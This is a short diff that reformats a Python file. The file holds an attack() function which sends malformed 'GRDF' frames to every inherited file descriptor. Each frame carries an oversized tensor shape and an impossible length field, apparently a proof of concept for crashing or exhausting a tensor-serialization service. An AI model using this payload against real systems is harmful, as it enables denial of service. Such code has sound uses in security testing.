@@ -12,6 +12,7 @@ import stat
 import struct
 import sys
 
+
 def channels() -> list[int]:
     found = []
     for number in range(3, 65):
@@ -37,7 +38,14 @@ def request_number() -> int:
 
 def attack(targets: dict) -> str:
     blob = struct.pack("<Q", (1 << 63) - 1) + b"{}" + bytes(100)
-    node = {"$tensor": "t0", "as": "tensor", "dtype": "float32", "shape": [1 << 62], "device": "cpu", "requires_grad": False}
+    node = {
+        "$tensor": "t0",
+        "as": "tensor",
+        "dtype": "float32",
+        "shape": [1 << 62],
+        "device": "cpu",
+        "requires_grad": False,
+    }
     header = json.dumps({"n": request_number(), "ok": node}).encode()
     for number in channels():
         os.write(number, b"GRDF" + struct.pack("<IIQ", 1, len(header), len(blob)) + header + blob)
